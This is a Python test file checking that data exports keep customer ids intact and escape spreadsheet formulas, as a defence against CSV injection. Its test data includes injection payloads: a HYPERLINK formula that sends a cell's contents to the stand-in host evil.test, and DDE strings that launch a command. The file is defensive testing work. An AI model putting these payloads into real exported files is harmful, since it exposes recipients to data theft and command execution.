"""Exports keep customer ids exactly and make formulas inert (OWASP CSV injection), per cell.

Every download (plain CSV, CSV for Excel in both encodings, XLSX, the assignment list in CSV
and XLSX) is written and read back with pandas / openpyxl: an id that reads as a plain number
('+79161234567', '-5', '−5') comes back as the same text, and user text a spreadsheet would run
('=HYPERLINK(...)', '+cmd|...', '@SUM', a leading tab or CR) never reaches a file as a formula.
"""

from __future__ import annotations

import csv as csv_module
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from experiments import design, export

IDS = ["+79161234567", "-5", "\u22125", "00123", "-1.5", "+7", "1e5", "A-17"]
FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "+7 900",  # not a plain number: a formula start, so escaped
    "-",
]


def _frame() -> pd.DataFrame:
    width = max(len(IDS), len(FORMULAS))
    return pd.DataFrame(
        {
            "customer_id": (IDS + ["x"] * width)[:width],
            "note": (FORMULAS + ["y"] * width)[:width],
        }
    )


def _inert(text: str) -> bool:
    """What a spreadsheet reads from a text cell runs nothing: no formula start, unless it is
    the CSV-for-Excel text wrapper '="..."' around digits, signs and separators."""
    if export.unwrap_text(text) != text:
        return True
    return not text.startswith(("=", "+", "-", "@", "\t", "\r")) or design.escape_cell(text) == text


@pytest.mark.parametrize("value", IDS)
def test_escape_cell_leaves_plain_numbers_alone(value):
    assert design.escape_cell(value) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_escape_cell_neutralises_formulas(value):
    assert design.escape_cell(value) == "'" + value


def test_plain_csv_round_trip_keeps_ids_and_neutralises_formulas():
    back = pd.read_csv(
        io.BytesIO(export.csv(_frame())), dtype=str, keep_default_na=False, encoding="utf-8-sig"
    )
    assert back["customer_id"].tolist()[: len(IDS)] == IDS
    assert back["note"].tolist()[: len(FORMULAS)] == ["'" + f for f in FORMULAS]


@pytest.mark.parametrize("encoding", export.ENCODINGS)
def test_excel_csv_round_trip_keeps_ids_and_neutralises_formulas(encoding):
    frame = _frame()
    if encoding == "cp1251":  # Windows-1251 has no '−': refused, never changed to '-'
        with pytest.raises(export.Cp1251Unencodable) as refused:
            export.excel_csv(frame, encoding)
        assert refused.value.char == "\u2212" and refused.value.column == "customer_id"
        frame = frame[frame["customer_id"] != "\u22125"]
    data = export.excel_csv(frame, encoding)
    back = pd.read_csv(
        io.BytesIO(data), sep=";", dtype=str, keep_default_na=False, encoding=encoding
    )
    ids = frame["customer_id"].tolist()
    assert back["customer_id"].map(export.unwrap_text).tolist() == ids
    # numbers-like ids are wrapped as text for Excel, never prefixed with "'"
    raw = data.decode(encoding).split("\r\n")
    assert '="+79161234567"' in raw[1] and '="-5"' in raw[2]
    # '+7 900' is wrapped as text like an id; the rest get the one spreadsheet rule
    expected = ['="+7 900"' if f == "+7 900" else "'" + f for f in frame["note"]]
    assert back["note"].tolist() == expected
    assert all(_inert(cell) for cell in back.to_numpy().ravel())


def test_xlsx_round_trip_keeps_ids_and_writes_text_cells_only():
    data = export.xlsx({"ids": _frame()})
    book = load_workbook(io.BytesIO(data))
    cells = [c for row in book["ids"].iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if c.value is not None)
    back = pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert back["customer_id"].tolist()[: len(IDS)] == IDS
    # XML keeps no bare CR: the sheet holds '\n' for it
    escaped = ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert back["note"].tolist()[: len(FORMULAS)] == escaped


def _assignments() -> pd.DataFrame:
    frame = _frame()
    return pd.DataFrame(
        {
            "customer_id": frame["customer_id"],
            "arm": frame["note"],
            "arm_kind": "custom",
            "code": None,
        }
    )


@pytest.mark.parametrize("sep", [",", ";"])
def test_assignment_csv_round_trip(sep):
    text = design.assignments_csv(_assignments(), sep=sep).decode("utf-8-sig")
    rows = list(csv_module.reader(io.StringIO(text), delimiter=sep))
    assert [r[0] for r in rows[1 : len(IDS) + 1]] == IDS
    assert [r[1] for r in rows[1 : len(FORMULAS) + 1]] == ["'" + f for f in FORMULAS]


def test_assignment_xlsx_round_trip():
    data = design.assignments_xlsx(_assignments())
    book = load_workbook(io.BytesIO(data))
    sheet = book["assignments"]
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value)
    back = pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert back["customer_id"].tolist()[: len(IDS)] == IDS
    escaped = ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert back["arm"].tolist()[: len(FORMULAS)] == escaped
